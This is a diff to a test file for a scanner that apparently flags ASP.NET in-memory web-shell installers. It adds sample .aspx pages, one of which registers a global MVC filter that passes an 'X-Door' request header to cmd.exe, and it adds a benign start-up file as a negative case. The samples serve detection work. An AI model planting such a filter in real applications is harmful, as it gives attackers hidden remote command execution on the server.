@@ -269,9 +269,40 @@ End Sub
 </script>"""
 
 
+# An MVC global filter, a Web API message handler and a controller factory installed from a
+# page: each runs on every later request to the application's controllers.
+MVC_FILTER_PAGE = """<%@ Page Language="C#" %>
+<script runat="server">
+public class Door : System.Web.Mvc.ActionFilterAttribute {
+    public override void OnActionExecuting(System.Web.Mvc.ActionExecutingContext c) {
+        var x = c.HttpContext.Request.Headers["X-Door"];
+        if (x != null) System.Diagnostics.Process.Start("cmd.exe", "/c " + x);
+    }
+}
+void Page_Load(object sender, EventArgs e) {
+    System.Web.Mvc.GlobalFilters.Filters.Add(new Door());
+}
+</script>"""
+WEBAPI_HANDLER_PAGE = """<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object sender, EventArgs e) {
+    System.Web.Http.GlobalConfiguration.Configuration.MessageHandlers.Insert(0, new DoorHandler());
+}
+</script>"""
+CONTROLLER_FACTORY_PAGE = """<%@ Page Language="VB" %>
+<script runat="server">
+Sub Page_Load(sender As Object, e As EventArgs)
+    System.Web.Mvc.ControllerBuilder.Current.SetControllerFactory(New DoorFactory())
+End Sub
+</script>"""
+
+
 @pytest.mark.parametrize(
     ("name", "code", "words"),
     [
+        ("filter.aspx", MVC_FILTER_PAGE, ["GlobalFilters.Filters.Add", "from a page"]),
+        ("handler.aspx", WEBAPI_HANDLER_PAGE, ["MessageHandlers.Insert", "from a page"]),
+        ("factory.aspx", CONTROLLER_FACTORY_PAGE, ["ControllerBuilder.Current.SetControllerFactory", "from a page"]),
         ("hook.aspx", EVENT_HOOK_PAGE, ["ApplicationInstance.PostAuthenticateRequest", "from a page"]),
         ("hook-vb.aspx", EVENT_HOOK_VB, ["ApplicationInstance.BeginRequest", "hooked into the application's requests"]),
         ("route.aspx", ROUTE_INSTALLER_PAGE, ["RouteTable.Routes.Insert", "from a page"]),
@@ -283,7 +314,17 @@ End Sub
         ),
         ("QuietRoute.cs", ROUTE_INSTALLER_CLASS, ["RouteTable.Routes.Insert", "form field 'k'", "Assembly.Load"]),
     ],
-    ids=["event-hook-page", "event-hook-vb", "route-page", "remoting-page", "vpp-reflection-page", "route-class"],
+    ids=[
+        "mvc-filter-page",
+        "webapi-handler-page",
+        "controller-factory-page",
+        "event-hook-page",
+        "event-hook-vb",
+        "route-page",
+        "remoting-page",
+        "vpp-reflection-page",
+        "route-class",
+    ],
 )
 def test_memory_shell_installer(name: str, code: str, words: list[str]) -> None:
     report = assert_found(name, code, "EXH-WS-CODE-MEMORY-SHELL", [])
@@ -327,6 +368,18 @@ void Application_Start(object sender, EventArgs e) {
     System.Runtime.Remoting.RemotingConfiguration.Configure(Server.MapPath("~/remoting.config"), false);
 }
 </script>""",
+    ),
+    (
+        "FilterConfig.cs",
+        # MVC's own start-up: the global filters and Web API handlers added once, in App_Start.
+        """using System.Web.Mvc;
+public class FilterConfig {
+    public static void Register() {
+        GlobalFilters.Filters.Add(new HandleErrorAttribute());
+        System.Web.Http.GlobalConfiguration.Configuration.MessageHandlers.Add(new TimingHandler());
+        ControllerBuilder.Current.SetControllerFactory(new UnityControllerFactory());
+    }
+}""",
     ),
     (
         "TimingModule.cs",
